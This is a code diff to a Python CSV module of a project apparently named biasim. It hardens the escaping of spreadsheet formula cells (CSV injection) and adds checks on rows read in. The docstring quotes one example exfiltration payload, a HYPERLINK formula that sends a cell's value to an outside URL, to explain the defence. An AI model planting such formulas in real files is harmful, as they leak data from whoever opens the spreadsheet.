@@ -1,18 +1,22 @@
 """CSV tables in and out: every table biasim writes is safe to open in a spreadsheet, and every
-table it reads has one column per name.
+table it reads has one column per name and one cell per column in every row.
 
-A cell that starts with ``=``, ``+``, ``-``, ``@`` (or their full-width forms ``＝＋－＠``,
-which spreadsheets fold to them), after any spaces or line breaks, or with a tab or a carriage
-return, is a formula to Excel, LibreOffice and Google Sheets: a model's answer or a group label
-such as ``=HYPERLINK("http://x?"&A1, "click")`` would run when a reviewer opens ``results.csv``.
-Such cells get a leading ``'`` (the OWASP CSV-injection rule); plain numbers such as ``-0.5`` are
-left as they are. The parquet tables keep every value exactly.
+A cell whose first visible character is ``=``, ``+``, ``-`` or ``@`` is a formula to Excel,
+LibreOffice and Google Sheets: a model's answer or a group label such as
+``=HYPERLINK("http://x?"&A1, "click")`` would run when a reviewer opens ``results.csv``.
+"Visible" is after every leading space, format or control character (Unicode categories Z, Cf
+and Cc: U+3000, U+00A0, a byte-order mark, U+200B, a vertical tab, a NUL ...), and the character
+is read in its NFKC form, so the full-width ``＝`` and the small ``﹦`` are ``=`` too. A cell that
+starts with a tab or a carriage return is one as well. Such cells get a leading ``'`` (the OWASP
+CSV-injection rule); plain numbers such as ``-0.5`` are left as they are. The parquet tables
+keep every value exactly.
 """
 
 from __future__ import annotations
 
 import csv
 import re
+import unicodedata
 from pathlib import Path
 from typing import Any
 
@@ -26,17 +30,34 @@ from biasim.simulator.common.rundir import write_atomic
 
 pd = lazy_module("pandas")
 
-#: First characters a spreadsheet reads as the start of a formula (after leading blanks).
-FORMULA_START = "^([ \t\r\n]*[=+\\-@\uff1d\uff0b\uff0d\uff20]|[\t\r])"
+#: What a spreadsheet reads as the start of a formula, once the cell's first visible
+#: character is in its NFKC form.
+FORMULA_TRIGGERS = frozenset("=+-@")
+# Leading characters a spreadsheet may skip or not show: spaces, format and control characters.
+_INVISIBLE = frozenset({"Zs", "Zl", "Zp", "Cf", "Cc"})
 # A number is data, not a formula, even with a sign (`-0.5`, `+3e-2`).
 _NUMBER = r"^ *[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)? *$"
-_FORMULA_RE = re.compile(FORMULA_START)
 _NUMBER_RE = re.compile(_NUMBER)
+# Cells that cannot start a formula, told apart in Arrow without Python: empty, or a printable
+# ASCII character other than a space and the triggers first. Every other cell (a space, a
+# sign, a non-ASCII or control character first) goes through :func:`csv_safe`.
+_PLAIN_START = r"^([\x21-\x2a\x2c\x2e-\x3c\x3e\x3f\x41-\x7e]|$)"
+
+
+def starts_a_formula(text: str) -> bool:
+    """Whether a spreadsheet would read ``text`` as a formula (see the module's rule)."""
+    if text[:1] in ("\t", "\r"):
+        return True
+    for char in text:
+        if unicodedata.category(char) not in _INVISIBLE:
+            return unicodedata.normalize("NFKC", char)[:1] in FORMULA_TRIGGERS
+    return False
 
 
 def csv_safe(value: Any) -> Any:
-    """``value`` with a leading ``'`` when a spreadsheet would read it as a formula."""
-    if isinstance(value, str) and _FORMULA_RE.match(value) and not _NUMBER_RE.match(value):
+    """``value`` with a leading ``'`` when a spreadsheet would read it as a formula: the one
+    rule every CSV biasim writes goes through."""
+    if isinstance(value, str) and starts_a_formula(value) and not _NUMBER_RE.match(value):
         return "'" + value
     return value
 
@@ -51,18 +72,17 @@ def csv_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
 
 
 def csv_safe_table(table: pa.Table) -> pa.Table:
-    """The same rule on an Arrow table's string columns (vectorised: results can be large)."""
+    """:func:`csv_safe` on an Arrow table's string columns; only the cells whose first
+    character could start a formula (a few, in results) are taken out of Arrow to be checked."""
     columns = []
     for column in table.columns:
         if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
-            starts = pc.match_substring_regex(column, FORMULA_START)
-            if not pc.any(starts).as_py():
-                # Most columns (ids, labels, choices) hold no such cell: one scan, not four.
-                columns.append(column)
-                continue
-            risky = pc.and_(starts, pc.invert(pc.match_substring_regex(column, _NUMBER)))
-            quoted = pc.binary_join_element_wise(pa.scalar("'"), column, "")
-            column = pc.if_else(pc.fill_null(risky, False), quoted, column)
+            column = column.combine_chunks() if isinstance(column, pa.ChunkedArray) else column
+            maybe = pc.fill_null(pc.invert(pc.match_substring_regex(column, _PLAIN_START)), False)
+            if pc.any(maybe).as_py():
+                cells = pc.filter(column, maybe).to_pylist()
+                safe = pa.array([csv_safe(cell) for cell in cells], type=column.type)
+                column = pc.replace_with_mask(column, maybe, safe)
         columns.append(column)
     return pa.Table.from_arrays(columns, schema=table.schema)
 
@@ -80,8 +100,9 @@ def write_csv(path: Path, frame: pd.DataFrame) -> None:
 def read_csv(
     path: Path, what: str, limits: CsvLimits | None = None, *, empty_is_missing: bool = True
 ) -> pd.DataFrame:
-    """Read a CSV of text cells (an empty cell is missing); refuse a duplicated column name or a
-    cell longer than ``limits.max_cell_chars`` or holding a NUL byte (checked while streaming,
+    """Read a CSV of text cells (an empty cell is missing); refuse a duplicated column name, a
+    row whose cells do not match the header, more rows than ``limits.max_rows``, or a cell
+    longer than ``limits.max_cell_chars`` or holding a NUL byte (checked while streaming,
     before pandas holds the file).
 
     Args:
@@ -91,14 +112,14 @@ def read_csv(
         empty_is_missing: Read an empty cell as missing (else as the empty string).
 
     Raises:
-        InputError: Unreadable, not a regular file, a column name written twice, a cell too long
-            or with a NUL byte.
+        InputError: Unreadable, not a regular file, a column name written twice, a ragged row,
+            too many rows, a cell too long or with a NUL byte.
     """
     limits = limits or CsvLimits()
     if not path.is_file():
         raise InputError(f"{path}: cannot read {what}: not a regular file")
     try:
-        header = _check_cells(path, limits.max_cell_chars)
+        header = _check_cells(path, limits)
         missing = [""] if empty_is_missing else []
         df = pd.read_csv(path, dtype=str, keep_default_na=False, na_values=missing)
     except (OSError, ValueError, UnicodeDecodeError, csv.Error) as exc:
@@ -113,29 +134,54 @@ def read_csv(
     return df
 
 
-def _check_cells(path: Path, max_chars: int) -> list[str]:
-    """Stream ``path`` once, refusing a cell over ``max_chars``; return the header."""
-    previous = csv.field_size_limit(max_chars)
+def _check_cells(path: Path, limits: CsvLimits) -> list[str]:
+    """Stream ``path`` once, refusing a cell over the limit, a ragged row or a row past the
+    limit; return the header."""
+    previous = csv.field_size_limit(limits.max_cell_chars)
     try:
         with path.open(encoding="utf-8", newline="") as handle:
             reader = csv.reader(handle)
             header = next(reader, [])
             try:
-                for row in reader:
-                    if any("\x00" in cell for cell in row):
-                        raise _located(path, reader.line_num, "a NUL byte in a cell")
+                _check_rows(path, reader, len(header), limits.max_rows)
             except csv.Error as exc:
                 if "field larger than field limit" not in str(exc):
                     raise
                 raise _located(
                     path,
                     reader.line_num,
-                    f"a cell longer than the limit of {max_chars:,} characters "
+                    f"a cell longer than the limit of {limits.max_cell_chars:,} characters "
                     "(--max-cell-chars raises it)",
                 ) from None
     finally:
         csv.field_size_limit(previous)
     return header
+
+
+def _check_rows(path: Path, reader: Any, columns: int, max_rows: int) -> None:
+    """Every data row: no NUL byte, as many cells as the header (pandas would fill a short
+    row with missing values, or read a long one's first cell as an index, shifting every
+    column), and no more than ``max_rows`` of them. Blank lines are skipped, as pandas does."""
+    rows = 0
+    for row in reader:
+        if not row:
+            continue
+        rows += 1
+        if rows > max_rows:
+            raise _located(
+                path,
+                reader.line_num,
+                f"more than the limit of {max_rows:,} rows (--max-rows raises it)",
+            )
+        if len(row) != columns:
+            raise _located(
+                path,
+                reader.line_num,
+                f"{len(row)} cells where the header has {columns} columns: a ragged row "
+                "would shift its values into the wrong columns",
+            )
+        if any("\x00" in cell for cell in row):
+            raise _located(path, reader.line_num, "a NUL byte in a cell")
 
 
 def _located(path: Path, line: int, message: str) -> InputError:
